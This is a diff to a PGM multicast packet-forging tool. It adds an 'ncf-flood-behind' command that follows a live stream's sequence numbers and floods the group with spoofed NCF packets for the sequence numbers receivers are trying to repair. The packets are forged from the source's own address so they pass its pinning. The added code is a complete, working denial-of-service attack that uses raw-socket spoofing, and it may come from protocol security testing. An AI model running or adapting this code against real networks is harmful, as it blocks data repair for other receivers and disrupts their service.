@@ -27,6 +27,10 @@
   pgm_forge.py ncf-flood GROUP PORT GSI SPORT DPORT NLA SRC_IP SQN RATE SECONDS
       NCFs of that TSI from SRC_IP to the group, one a millisecond for SECONDS, each for the
       sqns just ahead of where a stream at RATE sqns/s from SQN now is. Prints how many.
+  pgm_forge.py ncf-flood-behind GROUP PORT GSI SPORT DPORT NLA SRC_IP IFACE SECONDS
+      The same for the 52 sqns behind the stream's lead and 4 past it, the lead followed by
+      listening to the group on IFACE: the sqns a receiver that lost a packet is repairing
+      (SRC_IP the source's own address: they pass its pinning).
   pgm_forge.py silent-source GROUP PORT DPORT IFACE BASE SECONDS
       A new TSI (random GSI and port) sends ODATA BASE and BASE + 1000 from IFACE, again
       after SECONDS / 2, and never an SPM. Counts the SPMRs for it heard in SECONDS: unicast
@@ -416,10 +420,41 @@ def spm_options(group, port, iface, gsi_hex, sport, spoof_ip, pause, options):
         print("spm-options: SPM sqn=%d with OPT_%s (trail %d, lead %d) from %s"
               % (spm_sqn, name, newest[1], newest[0], spoof_ip))
 
+def ncf_flood_behind(group, port, gsi_hex, sport, dport, source_nla, src_ip, iface, seconds):
+    """One NCF a millisecond for the 52 sqns behind the live stream's lead and 4 past it, the
+    lead followed by listening to the group on IFACE (the TSI's newest ODATA)."""
+    gsi, port, sport, dport = bytes.fromhex(gsi_hex), int(port), int(sport), int(dport)
+    seconds = float(seconds)
+    sock, raw = group_socket(group, port, iface), raw_socket()
+    sock.setblocking(False)
+    lead = None
+    start = time.monotonic()
+    sent = 0
+    while time.monotonic() - start < seconds:
+        while True:
+            try:
+                pgm, _ = sock.recvfrom(65535)
+            except BlockingIOError:
+                break
+            if len(pgm) >= 24 and pgm[4] == ODATA and of_tsi(pgm, gsi, sport):
+                s = struct.unpack("!I", pgm[16:20])[0]
+                if lead is None or serial_after(s, lead):
+                    lead = s
+        if lead is not None:
+            sqns = list(range(lead - 52, lead + 4))
+            p = nak(sport, dport, gsi, sqns, source_nla, group, ptype=NCF)
+            send_spoofed(raw, src_ip, group, 41500, port, p)
+            sent += 1
+        time.sleep(max(0.0, start + (sent + 1) * 0.001 - time.monotonic()))
+    print("ncfs=%d from %s in %.1f s (lead followed on the group)"
+          % (sent, src_ip, time.monotonic() - start))
+
+
 def main(argv):
     cmds = {"learn": (learn, 1), "downstream": (downstream, 11),
             "send-downstream": (send_downstream, 2), "naks": (naks, 11),
             "conflict": (conflict, 7), "ncf-flood": (ncf_flood, 10),
+            "ncf-flood-behind": (ncf_flood_behind, 9),
             "silent-source": (silent_source, 6), "gap-sources": (gap_sources, 8),
             "spm-options": (spm_options, 8)}
     if len(argv) < 2 or argv[1] not in cmds or len(argv) - 2 != cmds[argv[1]][1]:
